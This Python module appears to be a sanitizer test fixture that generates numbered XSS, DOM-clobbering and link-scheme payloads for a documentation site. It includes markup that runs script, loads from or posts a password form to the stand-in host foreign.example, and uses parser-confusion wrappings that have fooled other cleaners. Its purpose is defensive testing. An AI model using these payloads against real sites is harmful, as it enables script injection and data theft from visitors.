"""What a hostile contributor could write: harm, in every wrapping that ever let it through.

Each payload calls `hurt` with its own number, or asks `foreign.example`; each of its elements bears
the attribute `hostile`, so that it is found even where nothing runs. All of them are our own.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

RUNS = """
<script hostile>{js}</script>
<script hostile src="data:text/javascript,{js}"></script>
<script hostile type=module>{js}</script>
<img hostile src=x: onerror={js}>
<svg hostile onload={js}></svg>
<svg hostile><script>{js}</script></svg>
<svg hostile><animate onbegin={js} attributeName=x dur=1s></animate></svg>
<svg hostile><set onbegin={js} attributeName=x></set></svg>
<svg hostile><a href="javascript:{js}"><text y=20>x</text></a></svg>
<svg hostile><foreignObject><img src=x: onerror={js}></foreignObject></svg>
<svg hostile><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<math hostile><mi href="javascript:{js}">x</mi></math>
<iframe hostile srcdoc="<script>parent.{js}</script>"></iframe>
<iframe hostile src="javascript:parent.{js}"></iframe>
<iframe hostile onload={js}></iframe>
<object hostile data="javascript:parent.{js}"></object>
<object hostile data="data:text/html,<script>parent.{js}</script>"></object>
<embed hostile src="javascript:parent.{js}">
<details hostile open ontoggle={js}>x</details>
<input hostile autofocus onfocus={js}>
<select hostile autofocus onfocus={js}></select>
<textarea hostile autofocus onfocus={js}></textarea>
<b hostile tabindex=1 autofocus onfocus={js}>x</b>
<video hostile><source onerror={js}></video>
<video hostile src=x: onerror={js}></video>
<audio hostile src=x: onerror={js}></audio>
<style hostile>@keyframes hurt{}</style><b hostile style="animation:hurt 1s" onanimationstart={js}>x</b>
<style hostile onload={js}></style>
<link hostile rel=stylesheet href=x: onerror={js}>
<a hostile href="javascript:{js}">x</a>
<a hostile href="data:text/html,<script>{js}</script>">x</a>
<a hostile href=# onclick={js}>x</a>
<form hostile action="javascript:{js}"><button>x</button></form>
<form hostile><button formaction="javascript:{js}">x</button></form>
<button hostile onclick={js}>x</button>
<b hostile onmouseover={js}>x</b>
<b hostile onpointerenter={js}>x</b>
<p hostile contenteditable onfocus={js}>x</p>
<marquee hostile onstart={js}>x</marquee>
<body hostile onload={js}>
<body hostile onpageshow={js}>
<map hostile name=m><area href="javascript:{js}" shape=default></map>
<template hostile shadowrootmode=open><img src=x: onerror={js}></template>
<dialog hostile open onclose={js}><form method=dialog><button>x</button></form></dialog>
<b hostile popover id=p onbeforetoggle={js}>x</b><button popovertarget=p>x</button>
<meter hostile onmouseover={js}>x</meter>
<x-y hostile onclick={js} tabindex=1>x</x-y>
"""
"""What runs a program in a page without fences, at once or when it is touched."""

CALLS = """
<script hostile src={foreign}/x.js></script>
<img hostile src="https:{foreign}/x.png">
<img hostile src={foreign}/x.png>
<img hostile src=" {foreign}/x.png">
<img hostile src="&#9;{foreign}/x.png">
<img hostile src="/&#10;/foreign.example/x.png">
<img hostile src="/\\foreign.example/x.png">
<img hostile src="&#1;\\\\foreign.example/x.png">
<img hostile srcset="{foreign}/x.png 1x">
<picture hostile><source srcset={foreign}/x.png><img src=x></picture>
<video hostile poster={foreign}/x.png></video>
<video hostile src={foreign}/x.mp4 preload></video>
<audio hostile src={foreign}/x.mp3 preload></audio>
<video hostile><track default src={foreign}/x.vtt></video>
<input hostile type=image src={foreign}/x.png>
<table hostile background={foreign}/x.png><tr><td>x</td></tr></table>
<p hostile style="background:url({foreign}/x.png)">x</p>
<p hostile style="width:1px;content:image-set('{foreign}/x.png' 1x)">x</p>
<style hostile>@import url({foreign}/x.css);</style>
<style hostile>.md-typeset{background:url({foreign}/x.png)}</style>
<link hostile rel=stylesheet href={foreign}/x.css>
<link hostile rel=preload as=image href={foreign}/x.png>
<link hostile rel=prefetch href={foreign}/>
<link hostile rel=preconnect href={foreign}>
<link hostile rel=dns-prefetch href={foreign}>
<link hostile rel=modulepreload href={foreign}/x.js>
<link hostile rel=icon href={foreign}/x.png>
<link hostile rel=manifest href={foreign}/x.json>
<iframe hostile src={foreign}/></iframe>
<object hostile data={foreign}/></object>
<embed hostile src={foreign}/>
<svg hostile><image href={foreign}/x.png /></svg>
<svg hostile><use href={foreign}/x.svg#a></use></svg>
<svg hostile><filter><feImage href={foreign}/x.png /></filter></svg>
<a hostile ping={foreign}/ href=#x>x</a>
<form hostile action={foreign}/><input name=password type=password><button>x</button></form>
<body hostile background={foreign}/x.png>
<meta hostile http-equiv=refresh content="0;url={foreign}/">
<meta hostile http-equiv=refresh content="0;url=javascript:{js}">
<base hostile href={foreign}/>
<base hostile target=_blank>
"""
"""What asks another host, or takes the reader there."""

POSES = """
<div hostile id=__config>x</div>
<div hostile id=__palette>x</div>
<input hostile id=__search type=checkbox checked data-md-toggle=search>
<input hostile id=__tabbed_1_1 name=__tabbed_1 type=radio checked>
<input hostile type=checkbox checked>
<input hostile type=password name=password>
<label hostile for=__drawer>x</label>
<label hostile for=__palette_1>x</label>
<img hostile name=getElementById src=x.png>
<img hostile name=querySelector src=x.png>
<img hostile name=body src=x.png>
<img hostile id=cookie name=cookie src=x.png>
<form hostile name=head><input name=parentNode></form>
<form hostile id=location name=location></form>
<a hostile id=createElement>x</a>
<a hostile id=__md_scope href=x>x</a><a id=__md_scope name=href>x</a>
<a hostile id=__md_get>x</a>
<h2 hostile id=hub-main>x</h2>
<p hostile id=hub-results data-hub-explore>x</p>
<p hostile name=document$>x</p>
<a hostile id=document$>x</a><a hostile id=location$>x</a>
<div hostile data-md-component=search>x</div>
<div hostile data-md-component=dialog><div class=md-dialog__inner>x</div></div>
<div hostile data-md-component=announce>x</div>
<div hostile data-md-toggle=drawer>x</div>
<div hostile data-md-color-scheme=slate>x</div>
<div hostile data-hub-search data-bundle=x><button data-hub-search-open>x</button></div>
<div hostile class="md-overlay md-dialog--active" style="position:fixed;inset:0;z-index:9">x</div>
<div hostile class=hub-header>x</div>
<dialog hostile open>x</dialog>
<h1 hostile>x</h1>
<title hostile>x</title>
<iframe hostile name=top></iframe>
<object hostile id=getElementsByTagName name=getElementsByTagName></object>
<meta hostile name=color-scheme content=dark>
<script hostile id=__config type=application/json>{"base":"{foreign}/"}</script>
<link hostile rel=canonical href={foreign}/>
<p hostile hidden itemscope is=x-y slot=x part=x accesskey=s>x</p>
<a hostile href="https://other.example/" target=_top rel=opener download>x</a>
<b hostile onfocus autofocus tabindex=-1 role=alert aria-live=assertive>x</b>
"""
"""What stands in for a part of the page, of the theme or of the browser."""

WRAPPINGS = """
"'>{v}
--!>-->{v}
</title></textarea></style></script></noscript></template></svg></math>{v}
</p></div></article></main></body></html>{v}
<!-->{v}<!-- -->
<!--->{v}-->
<!-- x --!>{v}-->
<!x {v}>
<?x {v}?>
<![CDATA[>{v}]]>
<svg><![CDATA[></svg>{v}]]></svg>
<noscript><p title="</noscript>{v}"></noscript>
<style><p title="</style>{v}"></style>
<textarea><p title="</textarea>{v}"></textarea>
<title><p title="</title>{v}"></title>
<xmp><p title="</xmp>{v}"></xmp>
<noembed><p title="</noembed>{v}"></noembed>
<iframe><p title="</iframe>{v}"></iframe>
<svg></p><style><a id="</style>{v}"></style></svg>
<svg><style><!--</style>{v}--></style></svg>
<svg><desc><table><style><!--</style>{v}--></style></table></desc></svg>
<math><mtext><table><mglyph><style><!--</style>{v}--></style></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math>{v}</style></form>
<math><annotation-xml encoding=text/html><style>{v}</style></annotation-xml></math>
<select><template>{v}</template></select>
<table><tr>{v}<td>x</td></tr></table>
<a title='{v}' href=x>x</a>
<b title=`{v}`>x</b>
<b {v} title="
<<b>{v}<</b>
<div markdown=1>{v}</div>
\\{v} &lt;b>{v}
`x` {v} `` ` ``
<scr<b>ipt>{v}</scr</b>ipt>
"""
"""What has made others' cleaners see something else than the browser; `{v}` is the harm within."""

WRAPPED = """
<script hostile>{js}</script>
<img hostile src=x: onerror={js}>
<a hostile href=javascript:{js}>x</a>
<details hostile open ontoggle={js}>x</details>
<img hostile src={foreign}/x.png>
<div hostile id=__config data-md-component=search>x</div>
"""
"""What is put within each of them."""

ADDRESSES = r"""
javascript:{js}
JaVaScRiPt:{js}
javascript:{js}//https://a.example/
javascript://a.example/%0a{js}
javascript:/*a*/{js}
javascript:'<script>parent.{js}</script>'
java&#10;script:{js}
java&Tab;script:{js}
&#1;javascript:{js}
&#x6A;avascript:{js}
&#0000106;avascript:{js}
javascript&colon;{js}
javascript&#58;{js}
javascript&#x3a;{js}
%6aavascript:{js}
javascript%3a{js}
\javascript:{js}
java\script:{js}
vbscript:{js}
livescript:{js}
feed:javascript:{js}
view-source:javascript:{js}
blob:https://a.example/{js}
filesystem:https://a.example/{js}
data:text/html,<script>{js}</script>
data:text/html;base64,PHNjcmlwdD5odXJ0KDApPC9zY3JpcHQ+
data:image/svg+xml,<svg/onload={js}>
data:,x
about:blank
file:///etc/passwd
ftp://foreign.example/
intent://foreign.example/
//foreign.example/x.png
\\foreign.example/x.png
/\foreign.example/x.png
&#9;//foreign.example/x.png
https:foreign.example/x.png
HTTPS://foreign.example/x.png
https://foreign.example/"onmouseover="{js}
https://foreign.example/'onmouseover='{js}
https://foreign.example/><img/hostile/src=x:/onerror={js}>
https://foreign.example/" hostile onmouseover={js} x="
mailto:a"hostile/onclick="{js}
x"hostile/onerror="{js}
#"hostile/onclick="{js}
#__config
?a="hostile/onfocus="{js}"autofocus="
"""
"""Where a link or a picture could lead."""

ATTRIBUTES = """
onclick="{js}"
onmouseover={js}
: onpointerenter={js}
tabindex=1 autofocus onfocus={js}
onerror={js} src=x:
style="position:fixed;inset:0"
style="background:url({foreign}/x.png)"
style="animation:md-fade 1s" onanimationstart={js}
src={foreign}/x.png
src="&#9;{foreign}/x.png"
srcset="{foreign}/x.png 1x"
href="javascript:{js}"
href="java&#10;script:{js}"
xlink:href="javascript:{js}"
formaction="javascript:{js}"
action="javascript:{js}"
srcdoc="<script>{js}</script>"
ping={foreign}/
background={foreign}/x.png
poster={foreign}/x.png
target=_top rel=opener download
#__config
#__search
#hub-main
#createElement
id=hub-results
id="x\\" onclick={js}"
name=getElementById
name=body id=body
data-md-component=search
data-md-toggle=drawer
data-hub-search data-bundle={foreign}/
.md-overlay .hub-header
class="md-dialog md-dialog--active hub-search"
contenteditable popover hidden
is=x-y slot=x part=x accesskey=s
http-equiv=refresh content="0;url={foreign}/"
title="\\"><img hostile src=x: onerror={js}>"
title="'><img hostile src=x: onerror={js}>"
}<img hostile src=x: onerror={js}>{
"""
"""What Material's sites may write in braces behind a paragraph, a heading, a link or a picture."""


Kind = Literal["html", "wrapped", "address", "attributes"]
"""HTML, HTML within something else, an address, or attributes as they stand in braces."""


@dataclass(frozen=True, slots=True)
class Payload:
    """Hostile words with their number."""

    number: int
    kind: Kind
    text: str


def payloads() -> list[Payload]:
    """Return all payloads of our own, each with its number in it."""
    return [
        Payload(number, kind, _filled(text, number))
        for number, (kind, text) in enumerate(_templates(), start=1)
    ]


def programs() -> list[Payload]:
    """Return those payloads that need no wrapping to run."""
    return payloads()[: len(_lines(RUNS))]


def from_fixtures(folder: Path) -> list[Payload]:
    """Return what others wrote to try DOMPurify with, from a folder that is not ours."""
    cases = json.loads((folder / "dompurify" / "expect.json").read_text(encoding="utf-8"))
    return [Payload(10_000 + at, "html", case["payload"]) for at, case in enumerate(cases)]


def _templates() -> Iterator[tuple[Kind, str]]:
    yield from (("html", text) for table in (RUNS, CALLS, POSES) for text in _lines(table))
    for wrapping in _lines(WRAPPINGS):
        yield from (("wrapped", wrapping.replace("{v}", text)) for text in _lines(WRAPPED))
    yield from (("address", text) for text in _lines(ADDRESSES))
    yield from (("attributes", text) for text in _lines(ATTRIBUTES))


def _lines(table: str) -> list[str]:
    return table.strip().split("\n")


def _filled(text: str, number: int) -> str:
    return text.replace("{js}", f"hurt({number})").replace("{foreign}", "//foreign.example")
